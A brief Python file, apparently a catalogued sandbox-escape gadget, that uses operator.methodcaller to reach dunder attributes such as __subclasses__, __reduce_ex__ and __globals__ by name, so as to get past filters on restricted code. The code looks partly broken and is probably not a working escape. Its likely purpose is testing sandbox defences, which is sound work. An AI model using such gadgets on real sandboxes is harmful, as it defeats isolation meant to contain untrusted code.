"""Class: module gadget. Source: common knowledge. Escape: methodcaller calls by name."""

import operator


def attack(model, tokenizer, address):
    return (
        operator.methodcaller("__subclasses__")(object)[0].__init__.__class__
        and operator.methodcaller("__reduce_ex__", 4)(attack.__code__ and {})[0].__globals__
    )
